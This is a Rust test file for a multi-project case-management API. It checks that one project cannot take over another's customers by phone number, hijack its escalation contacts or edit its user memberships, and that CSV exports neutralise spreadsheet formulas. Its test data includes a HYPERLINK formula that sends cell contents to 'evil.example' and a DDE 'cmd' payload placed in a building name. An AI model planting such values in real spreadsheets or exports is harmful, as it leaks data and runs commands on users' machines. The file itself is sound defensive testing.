//! Holes 5–7 of issue #21: case creation by another project's phone number, escalation
//! contacts and user edits across projects, formula injection in exports.

use huiyin_store::entity::case;
use reqwest::{Method, StatusCode};
use sea_orm::sea_query::Expr;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{json, Value};
use uuid::Uuid;

use super::{customer, two_projects};
use crate::case_steps::new_case;
use crate::db_tests;
use crate::helpers::TestApp;

db_tests!(
    hole5_registering_by_phone_never_hands_over_another_projects_customer,
    hole6_escalation_contacts_belong_to_projects_and_areas,
    hole6_managers_edit_only_their_projects_memberships,
    hole7_exports_neutralise_formulas,
);

const PASSWORD: &str = "Resident2026pw";

async fn hole5_registering_by_phone_never_hands_over_another_projects_customer(app: &TestApp) {
    let t = two_projects(app).await;
    let phone = "13800138000";
    let owner = customer(
        app,
        &t.agent_a.1,
        json!({"name": "王建国", "phones": [phone], "properties": [{"property_id": t.property_a, "relation": "owner"}]}),
    )
    .await;
    // The customer has a resident login.
    let issued = app
        .post(&format!("/api/v1/customers/{owner}/account"), &t.agent_a.1, json!({}))
        .await;
    assert_eq!(issued.status, StatusCode::CREATED, "{}", issued.text);
    let code = issued.body["activation_code"].as_str().unwrap();
    let activated = app
        .send(
            Method::POST,
            "/api/v1/resident/activate",
            None,
            Some(json!({"phone": phone, "code": code, "new_password": PASSWORD})),
            &[],
        )
        .await;
    assert_eq!(activated.status, StatusCode::NO_CONTENT, "{}", activated.text);
    let resident = app.login(phone, PASSWORD).await;

    // The attack: project B registers a case with A's customer's phone.
    let case = new_case(
        app,
        &t.agent_b.1,
        json!({"kind": "complaint", "channel": "phone", "project_id": t.b,
               "customer": {"name": "冒名者", "phone": phone}, "title": "投诉", "description": "公开回复"}),
    )
    .await;
    assert_ne!(case["customer_id"], owner.as_str(), "B got A's customer");
    assert_eq!(case["customer_name"], "冒名者");
    // A's customer record is untouched and still invisible to B; the resident sees no B case.
    app.get(&format!("/api/v1/customers/{owner}"), &t.agent_b.1)
        .await
        .assert_problem(404, None);
    let mine = app.get("/api/v1/resident/cases", &resident).await;
    assert_eq!(mine.status, StatusCode::OK, "{}", mine.text);
    assert!(mine.body["items"].as_array().unwrap().is_empty(), "{}", mine.text);
    // B's new record is B's: a second B case by the same phone finds it, A's agent does not see it.
    let again = new_case(
        app,
        &t.agent_b.1,
        json!({"kind": "inquiry", "channel": "phone", "project_id": t.b,
               "customer": {"name": "冒名者", "phone": phone}, "title": "咨询", "description": "x"}),
    )
    .await;
    assert_eq!(again["customer_id"], case["customer_id"]);
    let b_customer = case["customer_id"].as_str().unwrap();
    app.get(&format!("/api/v1/customers/{b_customer}"), &t.agent_a.1)
        .await
        .assert_problem(404, None);
    // Within A the phone still finds A's customer.
    let own = new_case(
        app,
        &t.agent_a.1,
        json!({"kind": "inquiry", "channel": "phone", "property_id": t.property_a,
               "customer": {"name": "王", "phone": "+86 138 0013 8000"}, "title": "咨询", "description": "x"}),
    )
    .await;
    assert_eq!(own["customer_id"], owner.as_str());
}

async fn contacts(app: &TestApp, token: &str) -> Vec<Value> {
    let reply = app.get("/api/v1/escalation-contacts", token).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    reply.body["items"].as_array().unwrap().clone()
}

async fn hole6_escalation_contacts_belong_to_projects_and_areas(app: &TestApp) {
    let t = two_projects(app).await;
    let supervisor_a = app.user("supervisor.a", "supervisor", None, &[&t.a]).await;
    let area_supervisor = app.user("supervisor.east", "supervisor", None, &[&t.a]).await;
    // A's manager configures A's project-level contact for the area level.
    let made = app
        .post(
            "/api/v1/escalation-contacts",
            &t.manager_a.1,
            json!({"level": "area", "project_id": t.a, "user_id": supervisor_a.0}),
        )
        .await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.text);
    // The attack: B's manager takes over A's notices (by project, by area, company-wide).
    for (body, status, field) in [
        (
            json!({"level": "area", "project_id": t.a, "user_id": t.manager_b.0}),
            422,
            Some("project_id"),
        ),
        (
            json!({"level": "area", "area_id": t.area_a, "user_id": t.manager_b.0}),
            422,
            Some("area_id"),
        ),
        (json!({"level": "company", "user_id": t.manager_b.0}), 403, None),
    ] {
        app.post("/api/v1/escalation-contacts", &t.manager_b.1, body)
            .await
            .assert_problem(status, field);
    }
    // B sees none of A's contacts and cannot remove them.
    assert!(contacts(app, &t.manager_b.1).await.is_empty());
    let a_contact = contacts(app, &t.manager_a.1).await[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    app.send(
        Method::DELETE,
        &format!("/api/v1/escalation-contacts/{a_contact}"),
        Some(&t.manager_b.1),
        None,
        &[],
    )
    .await
    .assert_problem(404, None);
    // A's manager cannot make a B-only person hear of A's cases.
    app.post(
        "/api/v1/escalation-contacts",
        &t.manager_a.1,
        json!({"level": "area", "project_id": t.a, "user_id": t.manager_b.0}),
    )
    .await
    .assert_problem(422, Some("user_id"));
    // Area contacts: the east area's own supervisor hears of its major complaints; the
    // project contact remains the fallback for cases outside the area.
    let area_contact = app
        .post(
            "/api/v1/escalation-contacts",
            &t.manager_a.1,
            json!({"level": "area", "area_id": t.area_a, "user_id": area_supervisor.0}),
        )
        .await;
    assert_eq!(area_contact.status, StatusCode::CREATED, "{}", area_contact.text);
    let listed = contacts(app, &t.manager_a.1).await;
    assert!(listed
        .iter()
        .any(|c| c["area_id"] == t.area_a.as_str() && c["project_id"] == t.a.as_str()));
    let major = |property: Option<&str>| {
        json!({"kind": "complaint", "severity": "major", "channel": "phone", "property_id": property,
               "project_id": t.a, "title": "重大投诉", "description": "x"})
    };
    new_case(app, &t.agent_a.1, major(Some(&t.property_a))).await;
    assert_eq!(notified(app, &area_supervisor.1).await, 1);
    assert_eq!(notified(app, &supervisor_a.1).await, 0);
    new_case(app, &t.agent_a.1, major(None)).await;
    assert_eq!(notified(app, &area_supervisor.1).await, 1);
    assert_eq!(notified(app, &supervisor_a.1).await, 1);
    assert_eq!(notified(app, &t.manager_b.1).await, 0);
}

async fn notified(app: &TestApp, token: &str) -> usize {
    let reply = app.get("/api/v1/notifications", token).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    reply.body["items"].as_array().unwrap().len()
}

async fn hole6_managers_edit_only_their_projects_memberships(app: &TestApp) {
    let t = two_projects(app).await;
    let shared = app.user("shared.agent", "agent", None, &[&t.a, &t.b]).await;
    let path = format!("/api/v1/users/{}", shared.0);
    let version = |reply: &crate::helpers::Reply| reply.body["version"].as_i64().unwrap();
    let current = app.get(&path, &t.manager_b.1).await;
    assert_eq!(current.status, StatusCode::OK, "{}", current.text);
    // The attack: B's manager removes project A, changes the role, deactivates.
    let removed = app
        .patch(&path, &t.manager_b.1, version(&current), json!({"project_ids": [t.b]}))
        .await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.text);
    let mut kept: Vec<&str> = removed.body["project_ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    kept.sort_unstable();
    let mut both = vec![t.a.as_str(), t.b.as_str()];
    both.sort_unstable();
    assert_eq!(kept, both, "project A's membership is not B's manager's to remove");
    let v = version(&removed);
    app.patch(&path, &t.manager_b.1, v, json!({"role": "handler"}))
        .await
        .assert_problem(403, None);
    app.patch(&path, &t.manager_b.1, v, json!({"active": false}))
        .await
        .assert_problem(403, None);
    // B's manager may drop the user from B only, and cannot add a project of their own choosing.
    let c = app.project("第三项目").await;
    app.patch(&path, &t.manager_b.1, v, json!({"project_ids": [t.b, c]}))
        .await
        .assert_problem(422, Some("project_ids"));
    let dropped = app.patch(&path, &t.manager_b.1, v, json!({"project_ids": []})).await;
    assert_eq!(dropped.status, StatusCode::OK, "{}", dropped.text);
    assert_eq!(dropped.body["project_ids"], json!([t.a]));
    assert_eq!(dropped.body["active"], true);
    // Only an administrator makes a manager, even of a user only in B.
    let own = app.user("own.agent", "agent", None, &[&t.b]).await;
    let own_path = format!("/api/v1/users/{}", own.0);
    app.patch(&own_path, &t.manager_b.1, 1, json!({"role": "manager"}))
        .await
        .assert_problem(403, None);
    let changed = app
        .patch(&own_path, &t.manager_b.1, 1, json!({"role": "handler"}))
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.text);
    let admin = app
        .patch(&path, &app.admin_token, version(&dropped), json!({"active": false}))
        .await;
    assert_eq!(admin.status, StatusCode::OK, "{}", admin.text);
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")";

async fn hole7_exports_neutralise_formulas(app: &TestApp) {
    let t = two_projects(app).await;
    // A building name from the property import and a resident-supplied title.
    let csv = "building,unit,room\n\"@SUM(1+1)*cmd|' /C calc'!A0\",1单元,101\n";
    let imported = app
        .post_raw(
            &format!("/api/v1/properties/import?project_id={}", t.a),
            &app.admin_token,
            "text/csv",
            csv.as_bytes().to_vec(),
        )
        .await;
    assert!(imported.status.is_success(), "{}", imported.text);
    let listed = app
        .get(&format!("/api/v1/properties?project_id={}", t.a), &app.admin_token)
        .await;
    let evil = listed.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["building"].as_str().is_some_and(|b| b.starts_with('@')))
        .unwrap_or_else(|| panic!("{}", listed.text))["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let case = new_case(
        app,
        &t.agent_a.1,
        json!({"kind": "complaint", "channel": "app", "property_id": evil, "title": FORMULA, "description": "x"}),
    )
    .await;
    // Overdue, so the title is listed in the report.
    case::Entity::update_many()
        .col_expr(
            case::Column::DueAt,
            Expr::value(chrono::Utc::now() - chrono::Duration::hours(1)),
        )
        .filter(case::Column::Id.eq(Uuid::parse_str(case["id"].as_str().unwrap()).unwrap()))
        .exec(&app.store.db)
        .await
        .unwrap();
    let month = (chrono::Utc::now() + chrono::Duration::hours(8))
        .format("%Y-%m")
        .to_string();
    let path = format!("/api/v1/stats/report?month={month}&project_id={}&format=csv", t.a);
    let reply = app.get(&path, &app.admin_token).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(reply.text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c == &format!("'{FORMULA}")),
        "title not neutralised: {cells:?}"
    );
    assert!(
        cells.iter().any(|c| c.contains("@SUM(1+1)")),
        "building missing: {cells:?}"
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "a cell starts a formula: {cell:?}"
        );
    }
}
